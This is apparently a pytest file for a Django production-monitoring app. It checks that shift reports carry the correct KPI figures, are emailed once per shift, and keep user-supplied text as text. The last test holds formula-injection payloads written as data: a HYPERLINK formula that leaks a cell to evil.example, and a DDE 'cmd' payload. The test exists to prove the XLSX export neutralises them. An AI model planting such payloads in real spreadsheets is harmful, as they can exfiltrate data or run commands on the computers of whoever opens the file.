"""Shift reports: the engineered night shift's report carries the KPI queries' figures (read back from the XLSX
with openpyxl and from the PDF's text with pypdf), the beat run makes each shift's report once and mails it through
an email route (Django's locmem backend), and people's text stays text in the XLSX."""

import io
from datetime import timedelta

import pytest
import time_machine
from django.core import mail
from openpyxl import load_workbook
from pypdf import PdfReader

from accounts.services.roles import Role
from alarms.models import Channel, JournalEntry, NotificationRoute
from production.models import DowntimeReason, ShiftReport, ShiftReportRecipient, StateInterval
from production.queries.kpis import Scope, ScopeKind, loss_pareto, machines_kpis, scope_kpis
from production.services.downtime import stop_comment
from production.services.reports import DELAY, shift_report_create, shift_reports_due, shift_reports_run_due
from production.tasks import shift_reports_generate
from tests.factories import UserFactory
from tests.production.engineered import END, LATER, S, m

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def _sheet(report: ShiftReport, name: str) -> list[tuple]:
    book = load_workbook(io.BytesIO(bytes(report.xlsx)))
    return [tuple(c.value for c in row) for row in book[name].iter_rows()]


def _pdf_text(report: ShiftReport) -> str:
    return "\n".join(page.extract_text() for page in PdfReader(io.BytesIO(bytes(report.pdf))).pages)


def _alarm(night, minutes: float, message: str) -> JournalEntry:
    machine = night.config.machine
    return JournalEntry.objects.create(
        time=m(minutes), alarm_id=1, event="activate", state="unack_active", previous_state="normal",
        priority="high", alarm_name="HiHi", tag_path="m.temp", message=message, area_id=machine.line.area_id,
        line_id=machine.line_id, machine_id=machine.pk,
    )  # fmt: skip


def test_the_report_of_the_engineered_shift_carries_the_kpi_queries_figures(night):
    line_id = night.config.machine.line_id
    _alarm(night, 65, "Motor hot")
    _alarm(night, 9 * 60, "After the shift")  # not in the report

    report = shift_report_create(line_id=line_id, shift_name="Night", start=S, end=END, now=LATER)

    expected = scope_kpis(scope=Scope(ScopeKind.LINE, line_id), start=S, end=END, now=LATER)
    assert expected.produced > 0
    assert expected.oee is not None
    summary = dict(row[:2] for row in _sheet(report, "Summary") if row[0])
    assert summary["OEE"] == pytest.approx(expected.oee)
    assert summary["Availability"] == pytest.approx(expected.availability)
    assert summary["Performance"] == pytest.approx(expected.performance)
    assert summary["Quality"] == pytest.approx(expected.quality)
    assert (summary["Produced"], summary["Good"]) == (expected.produced, expected.good)
    # The plan: parts at the ideal cycle times over the planned busy time, so good / plan is the OEE.
    assert summary["Good"] / summary["Plan"] == pytest.approx(expected.oee)
    machine = machines_kpis(machine_ids=[night.config.machine_id], start=S, end=END, now=LATER)[night.config.machine_id]
    assert _sheet(report, "Machines")[1][:4] == (
        night.config.machine.name,
        machine.produced,
        machine.good,
        machine.rejects,
    )
    pareto = loss_pareto(scope=Scope(ScopeKind.LINE, line_id), start=S, end=END, now=LATER)
    assert [(label, seconds) for label, _, seconds in _sheet(report, "Losses")[1:]] == [
        (r.label, pytest.approx(r.seconds)) for r in pareto[:10]
    ]
    timeline = _sheet(report, "Timeline")[1:]
    assert [row[4] for row in timeline][:3] == ["Running", "Unplanned down", "Running"]
    assert sum(row[3] for row in timeline) == pytest.approx((END - S).total_seconds())
    assert [row[4] for row in _sheet(report, "Alarms")[1:]] == ["Motor hot"]

    text = _pdf_text(report)
    assert f"OEE {expected.oee * 100:.1f} %" in text
    assert f"Availability {expected.availability * 100:.1f} %" in text
    assert "Jam" in text
    assert "Motor hot" in text
    assert "After the shift" not in text
    assert night.config.machine.name in text


def test_the_beat_run_makes_each_shifts_report_once_and_mails_it(night):
    line = night.config.machine.line
    route = NotificationRoute.objects.create(
        name="Shift leads", channel=Channel.EMAIL, target="a@plant.example, b@plant.example"
    )
    ShiftReportRecipient.objects.create(line=line, route=route)

    assert shift_reports_due(now=END + DELAY - timedelta(seconds=1)) == []  # late data may still come
    created = shift_reports_run_due(now=END + DELAY + timedelta(minutes=1))
    with time_machine.travel(END + DELAY + timedelta(minutes=2)):
        again = shift_reports_generate()  # the beat task, a minute later

    assert len(created) == 1
    assert again == 0
    report = ShiftReport.objects.get()
    assert (report.line_id, report.shift_name, report.start, report.end) == (line.pk, "Night", S, END)
    assert report.emailed_at is not None
    assert len(mail.outbox) == 1
    sent = mail.outbox[0]
    assert sorted(sent.to) == ["a@plant.example", "b@plant.example"]
    assert [(name, kind) for name, _, kind in sent.attachments] == [
        (f"{report.file_stem}.pdf", "application/pdf"),
        (f"{report.file_stem}.xlsx", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"),
    ]
    assert sent.attachments[0][1].startswith(b"%PDF")
    # Asked again for the same shift (a second worker): the stored one, not a second.
    assert shift_report_create(line_id=line.pk, shift_name="Night", start=S, end=END, now=LATER).pk == report.pk
    assert ShiftReport.objects.count() == 1


def test_text_from_people_and_plcs_stays_text_in_the_xlsx(night):
    line_id = night.config.machine.line_id
    jam = DowntimeReason.objects.get(name="Jam")
    jam.category.name = "=1+1"
    jam.category.save()
    stop = StateInterval.objects.get(machine=night.config.machine, start=m(200))
    stop_comment(interval_id=stop.pk, comment=HOSTILE, user=UserFactory(role=Role.ENGINEER))
    _alarm(night, 65, "=cmd|' /C calc'!A0")

    report = shift_report_create(line_id=line_id, start=S, end=END, now=LATER)

    book = load_workbook(io.BytesIO(bytes(report.xlsx)))
    cells = {c.value: c for sheet in book for row in sheet.iter_rows() for c in row if isinstance(c.value, str)}
    for text in ("=1+1 / Jam", HOSTILE, "=cmd|' /C calc'!A0"):
        assert cells[text].data_type == "s", text
    assert not [c for c in cells.values() if c.data_type == "f"]
